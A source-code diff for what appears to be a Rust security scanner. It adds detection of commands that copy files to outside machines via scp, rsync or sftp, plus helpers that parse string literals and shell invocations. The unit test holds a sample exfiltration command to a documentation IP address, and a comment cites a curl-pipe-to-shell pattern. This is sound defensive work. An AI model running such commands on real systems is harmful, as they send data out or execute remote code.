@@ -5,6 +5,9 @@
 //! settings reader ([`crate::plugin`]) and the tool files
 //! ([`crate::toolfiles`]).
 
+use std::sync::LazyLock;
+
+use regex::Regex;
 use skills_core::json::Node;
 
 use crate::ctx::{Ctx, Unit};
@@ -60,7 +63,7 @@ pub(crate) fn auto_run(
     let severity = match worst {
         Some(w) => w.raised().max(Severity::High),
         None if matches!(run, Run::Hook | Run::Settings) && reaches_out(command) => Severity::High,
-        None if run != Run::Ci && sends_out(command) => Severity::High,
+        None if run != Run::Ci && (sends_out(command) || copies_out(command)) => Severity::High,
         None => return,
     };
     ctx.report(
@@ -149,4 +152,88 @@ pub(crate) fn reaches_out(command: &str) -> bool {
         })
         || lower.contains("transcript")
         || crate::sensitive::is_secret_source(command)
+}
+
+/// A string literal in Groovy, Kotlin or Rust: double or single quotes.
+static LITERAL: LazyLock<Regex> = LazyLock::new(|| {
+    crate::text::regex(r#""((?:[^"\\\n]|\\.)*)"|'((?:[^'\\\n]|\\.)*)'"#)
+        .expect("the literal pattern is valid")
+});
+
+/// The string literals of `line`, with where each starts in it.
+pub(crate) fn literals(line: &str) -> Vec<(usize, &str)> {
+    LITERAL
+        .captures_iter(line)
+        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
+        .map(|m| (m.start(), m.as_str()))
+        .collect()
+}
+
+/// The command line a list of literal words makes: the script of `sh -c`
+/// (`bash -c`, `cmd /c`) as is, any other words quoted as shell words.
+pub(crate) fn command_of(words: &[&str]) -> String {
+    if let [shell, flag, script, ..] = words
+        && matches!(
+            shell.rsplit('/').next().unwrap_or(shell),
+            "sh" | "bash" | "zsh" | "dash" | "cmd" | "cmd.exe" | "powershell" | "pwsh"
+        )
+        && matches!(*flag, "-c" | "/c" | "-lc" | "-Command" | "-command")
+    {
+        return (*script).to_string();
+    }
+    let mut line = String::new();
+    for (i, word) in words.iter().enumerate() {
+        if i > 0 {
+            line.push(' ');
+        }
+        // One literal holding a whole command line (`"curl … | sh".execute()`)
+        // stays as it is.
+        if words.len() == 1 {
+            line.push_str(word);
+        } else {
+            line.push_str(&quote(word));
+        }
+    }
+    line
+}
+
+/// Whether `command` copies something to another machine with `scp`,
+/// `rsync` or `sftp`: a `[user@]host:path` word for a bare public address
+/// or a collection service. Nothing a routine step needs (a deploy names
+/// its server).
+pub(crate) fn copies_out(command: &str) -> bool {
+    let mut copier = false;
+    for word in
+        command.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')'))
+    {
+        let program = word.rsplit('/').next().unwrap_or(word);
+        if matches!(program, "scp" | "rsync" | "sftp") {
+            copier = true;
+            continue;
+        }
+        if !copier || word.starts_with('-') || word.contains("://") {
+            continue;
+        }
+        let word = word.trim_matches(['"', '\'']);
+        if let Some((host, _)) = word.split_once(':') {
+            let host = host.rsplit('@').next().unwrap_or(host).to_ascii_lowercase();
+            if crate::net::is_bare_ip(&host) || crate::net::is_collector(&host) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn copies_to_another_machine() {
+        use super::copies_out;
+        assert!(copies_out("scp -q /tmp/b dash@192.0.2.18:/srv/in/x"));
+        assert!(!copies_out("rsync -az . backup.example.net:/x"));
+        assert!(!copies_out("scp build.tar deploy@10.0.0.5:/srv/"));
+        assert!(!copies_out("rsync -a dist/ ./backup/"));
+        assert!(!copies_out("echo a:b"));
+    }
 }
